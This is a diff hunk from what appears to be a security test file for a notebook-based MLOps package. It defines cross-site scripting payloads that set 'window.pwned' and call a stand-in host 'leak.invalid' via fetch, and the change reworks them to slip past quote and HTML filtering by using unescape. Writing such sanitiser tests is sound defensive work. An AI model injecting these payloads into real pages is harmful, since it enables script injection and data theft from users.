@@ -10,8 +10,9 @@ from mlops_nb.pipeline.cells import StageName
 from mlops_nb.pipeline.records import ErrorRecord, ModelRecord, RunRecord, StageRecord
 
 LEAK = "http://leak.invalid"
-RUN = f"window.pwned=1;fetch('{LEAK}/run')"
-ATTRIBUTE = f"window.pwned=1;fetch(&quot;{LEAK}/attribute&quot;)"
+# Without quotes, blanks and signs of HTML, so that each payload may put them into what it likes.
+RUN = "window.pwned=1;fetch(unescape(/http:%2F%2Fleak.invalid%2Frun/.source))"
+ATTRIBUTE = RUN.replace("run", "attribute")
 
 # HTML, as Markdown cells and outputs hold it.
 PAYLOADS = [
